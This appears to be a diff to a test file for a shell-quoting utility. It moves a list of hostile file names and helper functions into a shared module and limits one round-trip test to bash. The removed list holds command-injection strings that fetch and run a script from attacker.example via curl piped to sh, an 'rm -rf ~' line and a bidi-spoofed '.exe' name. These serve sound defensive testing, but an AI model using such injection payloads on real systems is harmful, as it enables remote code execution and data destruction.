@@ -1,29 +1,6 @@
-import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
 import { shellQuote, suggestedCommand } from '../../../src/util/shell-quote.js';
-
-/** The words a shell reads from `line` (after `printf '%s\0'`): what a person pasting it would run. */
-function wordsParsedBy(shell: string, line: string): string[] {
-  const out = execFileSync(shell, ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
-  return out.split('\0').slice(0, -1);
-}
-
-/** No raw control, format or separator character: what is printed is what is seen. */
-const RAW_CONTROL = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
-
-const HOSTILE_WORDS = [
-  'in/my invoices/a.pdf',
-  "O'Brien's payslip.pdf",
-  'x/$(curl -s http://attacker.example/i | sh).pdf',
-  'job_7f3a; curl -s http://attacker.example/i | sh #',
-  'line one\nrm -rf ~\n.pdf',
-  'tab\there\r.pdf',
-  'bidi \u202Efdp.exe',
-  '`id`*?[a]{b,c}~!&|<>"\\',
-  'café.pdf',
-  '',
-  '-starts-with-a-dash',
-];
+import { HOSTILE_WORDS, RAW_CONTROL, wordsParsedBy } from '../../helpers/shell-words.js';
 
 describe('shellQuote: a word a POSIX shell reads back as itself', () => {
   it('leaves a word of safe characters bare, and single-quotes any other', () => {
@@ -42,8 +19,9 @@ describe('shellQuote: a word a POSIX shell reads back as itself', () => {
     for (const word of HOSTILE_WORDS) expect(shellQuote(word), JSON.stringify(word)).not.toMatch(RAW_CONTROL);
   });
 
-  it.each(['bash', 'zsh'])('%s reads each hostile word back as itself, one word each', (shell) => {
-    expect(wordsParsedBy(shell, suggestedCommand(HOSTILE_WORDS))).toEqual(HOSTILE_WORDS);
+  // zsh, a Debian package .ci/run installs after npm test, reads them too: test/shells/shell-quote.test.ts.
+  it('bash reads each hostile word back as itself, one word each', () => {
+    expect(wordsParsedBy('bash', suggestedCommand(HOSTILE_WORDS))).toEqual(HOSTILE_WORDS);
   });
 
   it("sh (dash, which has no $'…') reads back each word without a control character", () => {
